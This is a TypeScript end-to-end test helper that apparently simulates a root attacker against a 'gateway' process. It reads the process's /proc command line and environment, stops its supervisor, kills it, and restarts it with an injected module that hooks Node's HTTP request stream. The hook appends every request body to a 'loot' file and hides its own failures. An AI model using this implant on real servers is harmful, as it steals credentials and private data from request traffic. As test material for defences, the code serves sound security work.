import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createInterface } from 'node:readline';
import type { System } from '../../../e2e/support/system.ts';
import { isRunning } from '../../../e2e/support/processes.ts';
import { eventually } from '../../../e2e/support/wait.ts';

/** A zone that root started again with code of their own in it. */
export interface Implant {
  readonly pid: number;
  /** Gives the zone back to who kept it running, and waits for it to be. */
  remove(): Promise<void>;
}

/**
 * Puts code of the thief's own into the gateway, which has every request's body written to a file as it comes in. What holds a
 * zone, holds what runs in it, and no debugger can be woken; but root says how it is started. So it is started again, from
 * its own command line without what holds it.
 */
export async function implant(system: System, lootFile: string): Promise<Implant> {
  const before = await system.pid('gateway');
  const [words, environment] = await Promise.all([listOf(before, 'cmdline'), listOf(before, 'environ')]);
  const main = words.findIndex((word) => word.endsWith('/main.ts'));
  system.serve.kill('SIGSTOP'); // or it would start the zone again itself
  const giveBack = async (child?: ChildProcess): Promise<void> => {
    child?.kill('SIGKILL');
    system.serve.kill('SIGCONT');
    await eventually('the gateway is back', async () => {
      const now = await system.pid('gateway');
      return now !== before && (await isRunning(now)) ? now : null;
    });
  };
  process.kill(before, 'SIGKILL');
  await eventually('the gateway is gone', async () => ((await isRunning(before)) ? null : true));
  const child = spawn(process.execPath, ['--import', eavesdrop(lootFile), ...words.slice(main)], {
    env: Object.fromEntries(
      environment.map((entry) => entry.split(/=(.*)/s).slice(0, 2)),
    ) as NodeJS.ProcessEnv,
    stdio: ['pipe', 'pipe', 'ignore'],
  });
  const ready = (async () => {
    for await (const line of createInterface({ input: child.stdout })) if (line.includes('"ready"')) return;
    throw new Error('The implant did not take.');
  })();
  try {
    await Promise.race([ready, once(child, 'error')]);
    child.stdout.resume();
  } catch (error) {
    await giveBack(child);
    throw error;
  }
  return { pid: child.pid ?? 0, remove: () => giveBack(child) };
}

const listOf = async (pid: number, name: 'cmdline' | 'environ'): Promise<string[]> =>
  (await readFile(`/proc/${pid}/${name}`, 'utf8')).split('\0').slice(0, -1);

const eavesdrop = (lootFile: string): string =>
  `data:text/javascript,${encodeURIComponent(`
  import { appendFileSync } from 'node:fs';
  import { IncomingMessage } from 'node:http';
  const push = IncomingMessage.prototype.push;
  IncomingMessage.prototype.push = function (chunk, encoding) {
    // Once the loot was carried off there is no such file; a thief whose code then fails the request is noticed.
    try { if (chunk) appendFileSync(${JSON.stringify(lootFile)}, chunk); } catch {}
    return push.call(this, chunk, encoding);
  };`)}`;
